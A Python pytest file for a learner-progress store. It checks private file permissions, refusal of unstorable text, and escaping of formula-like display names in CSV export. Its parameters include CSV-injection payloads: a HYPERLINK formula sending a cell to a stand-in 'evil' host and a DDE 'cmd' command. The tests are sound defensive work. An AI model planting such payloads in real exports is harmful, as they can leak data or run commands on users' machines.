"""What the store writes is safe to keep and to hand on: private files, storable text, spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from qkv.cli.progress import progress
from qkv.store import Store

ALICE = "a" * 36


def test_a_new_sqlite_database_and_its_folder_are_private(tmp_path: Path) -> None:
    file = tmp_path / "deep" / "er" / "qkv.sqlite3"
    store = Store(f"sqlite:///{file}")
    store.progress.record_answer(ALICE, "L9.1", "area", "12", correct=True, message="Right.")
    store.close()
    assert file.stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "deep").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "deep" / "er").stat().st_mode & 0o777 == 0o700
    for sidecar in file.parent.glob("qkv.sqlite3-*"):  # -wal and -shm follow the database file
        assert sidecar.stat().st_mode & 0o077 == 0, sidecar


def test_an_existing_world_readable_database_is_made_private(tmp_path: Path) -> None:
    file = tmp_path / "qkv.sqlite3"
    Store(f"sqlite:///{file}").close()
    os.chmod(file, 0o644)
    Store(f"sqlite:///{file}").close()
    assert file.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    ("text", "named"),
    [("3\x00, 2", "a NUL character (\\x00)"), ("3, \ud800", "a lone surrogate (\\ud800)")],
)
def test_text_that_cannot_be_stored_is_refused_and_nothing_is_saved(
    database_url: str, text: str, named: str
) -> None:
    store = Store(database_url)
    try:
        with pytest.raises(ValueError) as answer:
            store.progress.record_answer(ALICE, "L9.1", "area", text, correct=False, message="No.")
        assert str(answer.value) == f"The answer contains {named}, which cannot be stored."
        with pytest.raises(ValueError) as program:
            store.code.record(ALICE, "L9.1", "shapes", text, {"status": "fail", "tests": []})
        assert str(program.value) == f"The program contains {named}, which cannot be stored."
        assert store.progress.lesson_activity(ALICE, "L9.1").exercises == {}
    finally:
        store.close()


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
)
def test_display_names_that_a_spreadsheet_would_run_are_exported_as_text(
    database_url: str, name: str
) -> None:
    store = Store(database_url)
    store.learners.set_display_name(ALICE, name)
    store.progress.record_answer(ALICE, "L4.1", "q", "3, 2", correct=True, message="Yes.")
    store.close()
    result = CliRunner().invoke(progress, ["export", "--database-url", database_url])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {row["display_name"] for row in rows} == {"'" + name}
    # JSON is read by programs, not run by spreadsheets: it keeps the name exactly.
    as_json = CliRunner().invoke(progress, ["export", "--database-url", database_url, "--format", "json"])
    assert {row["display_name"] for row in json.loads(as_json.stdout)} == {name}
